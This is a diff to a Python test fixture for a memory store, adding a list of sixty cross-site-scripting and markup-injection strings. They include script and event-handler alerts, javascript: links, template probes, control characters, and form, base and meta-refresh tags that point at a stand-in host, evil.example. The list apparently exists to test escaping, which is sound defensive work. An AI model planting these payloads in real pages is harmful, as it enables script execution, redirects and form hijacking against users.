@@ -8,6 +8,19 @@ BEGAN = datetime(2026, 2, 2, 9, 0, tzinfo=UTC)
 QUESTION = "What does Rami drink in the evening?"
 SHOP = "https://shop.example/offers"
 
+EVIL = [
+    mould.format(inner)
+    for mould in ("{}", "\"'>{}", "</a></p></li></script>{}", "</textarea></title>{}", "]]>{}<!--")
+    for inner in (
+        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
+        "<a href='javascript:alert(1)'>x</a>", "<iframe srcdoc='<script>alert(1)</script>'>",
+        "<style>*{{display:none}}</style>", "{{ 7 * 7 }} {% raw %}", "<base href=//evil.example>",
+        "<form action=//evil.example><input name=form>", "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "<meta http-equiv=refresh content='0;url=//evil.example'>", "\u202e<b>\u2066\x1b[31m\u200b",
+    )
+]  # fmt: skip
+"""Sixty texts that would run, or hide the page, where somebody is careless."""
+
 
 def tell(memory, clock):
     """Fill a store, day by day; returns the memories that the tests ask for, by name."""
@@ -43,6 +56,7 @@ def tell(memory, clock):
         actor="Rami",
         scope="home/kitchen",
     )
+    say("My passport number is in the blue folder.", "Noted.", "papers")
     memory.add("The boiler is serviced in May.", scope="home", actor="Lena", session="weekend plan")
     memory.add(
         "Kittiwake, the boat of Rami, lies at berth 14.", "long", actor="Rami", aliases=["the boat"]
